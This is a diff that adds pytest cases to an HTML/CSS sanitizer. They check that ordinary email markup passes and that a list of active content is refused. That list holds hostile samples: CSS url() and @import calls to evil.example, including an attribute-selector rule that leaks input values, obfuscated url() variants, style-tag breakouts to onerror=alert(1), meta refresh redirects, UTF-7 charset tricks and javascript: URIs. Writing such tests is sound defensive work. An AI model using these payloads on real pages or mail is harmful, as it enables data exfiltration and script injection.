@@ -31,3 +31,59 @@ def test_the_refusal_names_the_part(text: str, code: str, part: str) -> None:
         screen(read(text))
     assert caught.value.refusal.code == code
     assert part in caught.value.refusal.message
+
+
+MAILS = [
+    '<!DOCTYPE html><html lang="en" xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8">'
+    '<meta name="viewport" content="width=device-width"><style type="text/css">/* a */ @media (max-width: 600px) '
+    "{ td > p { width: calc(100% - 8px) !important; color: rgb(1, 2, 3) } }</style></head><body><p>x</p></body></html>",
+    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
+    '<a href="https://a.example/?q=a b" target="_blank" rel="noopener">x</a><a href="?page=2">2</a>',
+    '<picture><source srcset="a.webp 1x, https://a.example/b.webp 2x"><img src="a.png" loading="lazy"></picture>',
+    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
+    '<p style="color: red !important; scroll-behavior: smooth">x</p><blockquote cite="https://a.example">q</blockquote>',
+]
+ACTIVE = [
+    "<style>@import 'https://evil.example';</style>",
+    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+    "<style>p{background:u\\72l(x)}</style>",
+    "<style>p{background:ur/**/l(x)}</style>",
+    "<style>p{background:image-set('https://evil.example' 1x)}</style>",
+    "<style>p{background:src('https://evil.example')}</style>",
+    "<style>@font-face{font-family:x;src:local('a')}</style>",
+    "<style>/* <p></style><img src=x onerror=alert(1)> */</style>",
+    "<style>p{color:red}",
+    '<style><img title="</style><img src=x onerror=alert(1)>">',
+    '<p style="background:image(https://evil.example)">x</p>',
+    '<p style="content:attr(title)">x</p>',
+    '<p style="behavior:x">x</p>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
+    '<meta http-equiv="content-language" http-equiv="refresh" content="0">',
+    '<meta charset="utf-7">',
+    '<meta name="referrer" content="unsafe-url">',
+    '<a href="x" target="opener">x</a>',
+    '<a href="data:image/png;base64,AA==">x</a>',
+    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+    '<img src="x" srcset="javascript:x 1x">',
+    '<p xmlns="http://www.w3.org/2000/svg">x</p>',
+    '<html xmlns="http://www.w3.org/2000/svg">',
+    '<blockquote cite="javascript:x">q</blockquote>',
+]
+
+
+@pytest.mark.parametrize("text", MAILS)
+def test_mails_and_pages_as_people_and_models_write_them_pass(text: str) -> None:
+    screen(read(text))
+
+
+@pytest.mark.parametrize("text", ACTIVE)
+def test_what_loads_leads_away_or_reads_the_text_anew_is_refused(text: str) -> None:
+    with pytest.raises(Refused):
+        screen(read(text))
+
+
+def test_pictures_of_a_set_are_loaded_and_pictures_in_the_text_are_not() -> None:
+    assert read('<img srcset="https://a.example/x.png 2x">').remote
+    assert read('<picture><source srcset="x.webp"></picture>').remote
+    assert not read('<img src="data:image/png;base64,AA==">').remote
